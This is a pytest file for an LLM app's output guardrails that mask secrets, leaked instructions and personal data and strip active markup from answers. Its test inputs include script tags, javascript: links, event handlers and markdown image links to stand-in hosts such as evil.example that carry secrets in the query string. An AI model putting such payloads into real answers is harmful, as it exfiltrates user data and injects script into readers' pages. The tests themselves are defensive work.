"""What the guards do with what comes from a model."""

import random
import time

import pytest
from pydantic import BaseModel
from structlog.testing import capture_logs

from app.core import redaction
from app.guardrails.errors import AnswerRefused, GuardFailed
from app.guardrails.leaks import Instructions, PersonalData, Secrets
from app.guardrails.markup import Markup
from app.guardrails.window import GuardMaker, Window, clean_whole
from app.llm import TextDelta
from tests.conftest import SetEnvironment
from tests.guardrails.calls import Model, answer, ask, call, user

KEY = "sk-proj-4fK29dKsl3Jf0sKd93kFj4"
PRIVATE_KEY = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nabc\n-----END RSA PRIVATE KEY-----"
INSTRUCTIONS = " ".join(f"word{number}" for number in range(60))
IBAN = "DE89 3704 0044 0532 0130 00"


@pytest.mark.parametrize(
    ("text", "left"),
    [
        (f"The key is {KEY}, keep it.", "The key is [removed], keep it."),
        (f"Here:\n{PRIVATE_KEY}\nDone.", "Here:\n[removed]\nDone."),
        ("-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQ\n-----END PGP PRIVATE KEY BLOCK-----!", "[removed]!"),
        ("postgres://admin:pa55word@db/x", "postgres://[removed]@db/x"),
        ("Use sk-learn-contrib-and-more-words for this.", "Use sk-learn-contrib-and-more-words for this."),
        ("Basic information about the bearer of news.", "Basic information about the bearer of news."),
    ],
)
async def test_what_looks_like_a_secret_is_masked(text: str, left: str) -> None:
    assert (await answer(Model(text), call(user("hi")))).output == left


async def test_a_secret_of_the_settings_is_masked_whatever_it_looks_like(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(redaction, "_known", {"correct horse battery"})

    reply = await answer(Model("It is correct horse battery."), call(user("hi")))

    assert reply.output == "It is [removed]."


async def test_a_secret_with_spaces_is_held_back_in_a_stream_but_other_words_are_not(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(redaction, "_known", {"correct horse battery"})
    words = ["It ", "is ", "correct ", "of ", "the ", "correct ", "horse ", "battery ", "here. "]

    events = await ask(Model(*words), call(user("hi"), streaming=True))

    pieces = [event.text for event in events if isinstance(event, TextDelta)]
    assert pieces[:3] == ["It ", "is ", "correct of "]
    assert "".join(pieces) == "It is correct of the [removed] here. "


async def test_the_instructions_are_masked_where_an_answer_repeats_them() -> None:
    leak = " ".join(INSTRUCTIONS.split()[10:40])

    reply = await answer(
        Model(f"They say: {leak}. Bye."), call(user("hi"), instructions=INSTRUCTIONS, prompt_name="p")
    )

    assert reply.output == "They say: [removed]. Bye."


async def test_a_few_words_of_the_instructions_are_no_leak() -> None:
    text = " ".join(INSTRUCTIONS.split()[:15])

    assert (
        await answer(Model(text), call(user("hi"), instructions=INSTRUCTIONS, prompt_name="p"))
    ).output == text


async def test_personal_data_that_the_user_has_not_written_is_masked(
    set_environment: SetEnvironment,
) -> None:
    set_environment(GUARDRAIL_PERSONAL_DATA_IN_ANSWERS="mask")
    model = Model(f"Yours is {IBAN}, theirs GB29 NWBK 6016 1331 9268 19.")

    reply = await answer(model, call(user(f"Mine is {IBAN.replace(' ', '')}.")))

    assert reply.output == f"Yours is {IBAN}, theirs [iban]."


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("Hi <script>alert(1)</script><b>you</b>", "Hi alert(1)<b>you</b>"),
        ('<a href="javascript:x()" onclick="y()">a</a>', '<a rel="noopener noreferrer">a</a>'),
        ("![x](https://evil.example/?q=secret)", "x"),
        ("![logo](https://cdn.example.com/logo.png)", "![logo](https://cdn.example.com/logo.png)"),
        ("![x][1] and [text](javascript:alert(1))", "x and text"),
        ("![x](https://e.vil/a(b)?q=s) ![x](https://e.vil/ 'a (b)') ![a [b]](https://e.vil/)", "x x a [b]"),
        ("![logo]\n\n[logo]: https://e.vil/?q=s", "logo\n\n[logo]: https://e.vil/?q=s"),
        ("[x][1]\n\n[1]: javascript:alert%281%29\n", "[x][1]\n\n\n"),
        ("[x](<javascript:alert%281%29>) [x](&#106;avascript:a) [x](java\tscript:a)", "x x x"),
        ("<javascript:alert(1)> <https://example.com>", " <https://example.com>"),
        ("a ``` b <img src=x> c", "a ``` b  c"),
        ("a ```<b onclick=x>``` b", "a ```<b onclick=x>``` b"),
        ("\\`![x](https://e.vil/?q=s)\\`", "\\`x\\`"),
        ("Great![1] And ![2].", "Great![1] And ![2]."),
        ("[site](https://example.com) [bad](data:text/html,x)", "[site](https://example.com) bad"),
        (
            "Write `<script>` or\n```html\n<img src=x>\n```\n",
            "Write `<script>` or\n```html\n<img src=x>\n```\n",
        ),
        ("a < b, List<String> and x <y", "a < b, List<String> and x <y"),
        ("An open <iframe src=", "An open &lt;iframe src="),
    ],
)
async def test_what_would_be_active_where_it_is_shown_is_taken_out(
    text: str, left: str, set_environment: SetEnvironment
) -> None:
    set_environment(GUARDRAIL_IMAGE_HOSTS="cdn.example.com")

    assert (await answer(Model(text), call(user("hi")))).output == left


async def test_an_answer_can_be_refused_instead(set_environment: SetEnvironment) -> None:
    set_environment(GUARDRAIL_SECRETS="refuse")

    with pytest.raises(AnswerRefused, match="holds a secret"):
        await ask(Model(f"It is {KEY}."), call(user("hi")))


MAKERS: list[GuardMaker] = [
    lambda: Secrets("mask"),
    lambda: Instructions("mask", INSTRUCTIONS),
    lambda: PersonalData("mask", []),
    lambda: Markup("clean", ()),
]
PIECES = [
    f" {KEY} ",
    PRIVATE_KEY,
    " ".join(INSTRUCTIONS.split()[5:45]),
    f" {INSTRUCTIONS} ",
    f" {IBAN} and ada@example.com ",
    "<script>x</script>",
    "`<img src=x>`",
    "```\n<img src=x>\n```",
    '<img src="x" onerror="y">',
    "![a](https://evil.example/x)",
    "\n```\ncode ```` <b onclick=x>\n",
    "![a [b]](https://e.vil/(x)) ![logo] ",
    "\n[1]: javascript:x\n",
    "\\` <javascript:x> \\![a](b) ",
    "[2: \"words\"] ",
    "plain words in a sentence. ",
    "a < b > c ` d [ e ",
    "wörter\n",
]  # fmt: skip


@pytest.mark.parametrize("seed", range(80))
def test_a_stream_leaves_as_the_whole_would_wherever_it_is_cut(seed: int) -> None:
    chosen = random.Random(seed)
    text = "".join(chosen.choices(PIECES, k=12))
    window = Window([make() for make in MAKERS])
    streamed, at = "", 0
    while at < len(text):
        length = chosen.choice((1, 2, 3, 7, 20))
        streamed += window.push(text[at : at + length])
        at += length

    assert streamed + window.rest() == clean_whole(MAKERS, text)
    assert KEY not in streamed


@pytest.mark.parametrize("text", ["[", "[a](", "![", "`", "((", "<a:", "\\", "\n[a]: "])
def test_a_stream_of_what_never_ends_costs_no_more_than_its_length(text: str) -> None:
    window = Window([make() for make in MAKERS])
    began = time.process_time()

    left = [window.push(text[:4]) for _ in range(5000)]

    assert left
    assert time.process_time() - began < 5  # looking at all that is held for each piece took two minutes


async def test_a_stream_is_held_back_by_a_few_words_alone() -> None:
    words = [f"{number} " for number in range(1000, 1100)]

    events = await ask(
        Model(*words), call(user("hi"), streaming=True, instructions="Be kind.", prompt_name="p")
    )

    assert sum(isinstance(event, TextDelta) for event in events) > 90


async def test_a_stream_that_leaks_is_cleaned_before_it_leaves() -> None:
    events = await ask(Model(*f"It is {KEY}!"), call(user("hi"), streaming=True))

    assert "".join(event.text for event in events if isinstance(event, TextDelta)) == "It is [removed]!"


@pytest.mark.parametrize("streaming", [True, False])
async def test_a_decision_is_recorded_once(streaming: bool) -> None:
    with capture_logs() as logs:
        reply = await answer(Model(*f"It is {KEY}!"), call(user("hi"), streaming=streaming))

    assert reply.output == "It is [removed]!"
    assert [line["decision"] for line in logs if line["event"] == "guardrail"] == ["masked"]


class Answer(BaseModel):
    text: str
    numbers: list[int]


async def test_structures_are_cleaned_too() -> None:
    model = Model(output=Answer(text=f"Use {KEY}.", numbers=[1]))

    reply = await answer(model, call(user("hi"), output_type=Answer))

    assert reply.output == Answer(text="Use [removed].", numbers=[1])


async def test_a_guard_that_fails_refuses(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Secrets, "clean", broken)

    with pytest.raises(GuardFailed):
        await ask(Model("hello"), call(user("hi")))


async def test_a_guard_that_fails_can_be_passed_by(
    monkeypatch: pytest.MonkeyPatch, set_environment: SetEnvironment
) -> None:
    monkeypatch.setattr(Secrets, "clean", broken)
    set_environment(GUARDRAIL_FAIL_CLOSED="false")

    events = await ask(Model("hello ", "world"), call(user("hi"), streaming=True))

    assert "".join(event.text for event in events if isinstance(event, TextDelta)) == "hello world"


def broken(*_: object) -> str:
    raise RuntimeError("broken")
